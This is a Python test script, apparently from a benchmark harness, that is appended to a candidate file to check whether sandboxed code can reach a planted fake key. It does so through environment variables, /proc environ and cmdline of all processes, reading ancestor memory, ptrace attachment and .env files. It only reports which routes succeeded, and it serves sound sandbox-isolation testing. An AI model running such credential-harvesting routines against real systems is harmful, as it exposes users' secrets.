"""Plants a credential hunt by every route a worker of the harness's own uid has (appended to
rmsnorm_cpp.py, after a line setting PLANTED_FILES): its environment, its own and every other
process's /proc environ and cmdline, each ancestor's memory and ptrace, the harness's working
folder, and files that hold keys. Prints one line `HUNT {route: outcome}`; an outcome is `FOUND`
when the route gave up the fake key."""

import ctypes as _ctypes
import json as _json
import os as _os
from pathlib import Path as _Path

_KEY = b"sk-forgebench-fake-0123456789"


def _try(route: str, read, found: dict) -> None:
    try:
        data = read()
    except OSError as exc:
        found[route] = f"denied ({type(exc).__name__} {exc.errno})"
        return
    found[route] = "FOUND" if _KEY in data else "read, no key"


def _memory(pid: int) -> bytes:
    """Every readable private mapping of the process, as a debugger would read it."""
    chunks = []
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            span, perms = line.split()[:2]
            start, end = (int(x, 16) for x in span.split("-"))
            if perms.startswith("rw") and end - start <= 64 << 20:
                try:
                    mem.seek(start)
                    chunks.append(mem.read(end - start))
                except OSError:
                    pass
    return b"".join(chunks)


def _ptrace_seize(pid: int) -> bytes:
    libc = _ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(0x4206, pid, None, None) != 0:  # PTRACE_SEIZE: attaches without stopping it
        raise OSError(_ctypes.get_errno(), "ptrace")
    libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
    return _KEY  # attached: its whole memory is the candidate's


def _hunt() -> dict:
    found: dict = {}
    _try("os.environ", lambda: "\n".join(f"{k}={v}" for k, v in _os.environ.items()).encode(), found)
    _try("/proc/self/environ", _Path("/proc/self/environ").read_bytes, found)
    pid, generation = _os.getppid(), 1
    while pid > 1:
        label = f"ancestor{generation}"
        for name in ("environ", "cmdline"):
            _try(f"{label} {name}", _Path(f"/proc/{pid}/{name}").read_bytes, found)
        _try(f"{label} mem", lambda pid=pid: _memory(pid), found)
        _try(f"{label} ptrace", lambda pid=pid: _ptrace_seize(pid), found)
        _try(
            f"{label} cwd .env", lambda pid=pid: (_Path(_os.readlink(f"/proc/{pid}/cwd")) / ".env").read_bytes(), found
        )
        status = _Path(f"/proc/{pid}/status").read_text()
        pid, generation = int(status.split("PPid:")[1].split()[0]), generation + 1
    for name in ("environ", "cmdline"):
        outcomes: dict = {}
        for folder in _Path("/proc").glob("[0-9]*"):
            _try(str(folder), (folder / name).read_bytes, outcomes)
        hits = [folder for folder, outcome in outcomes.items() if outcome == "FOUND"]
        found[f"every process {name}"] = f"FOUND in {hits}" if hits else f"{len(outcomes)} tried, no key"
    for path in [*PLANTED_FILES, _Path.home() / ".env"]:  # noqa: F821 (set by the test)
        _try(f"file {path}", _Path(path).read_bytes, found)
    return found


print("HUNT " + _json.dumps(_hunt()), flush=True)
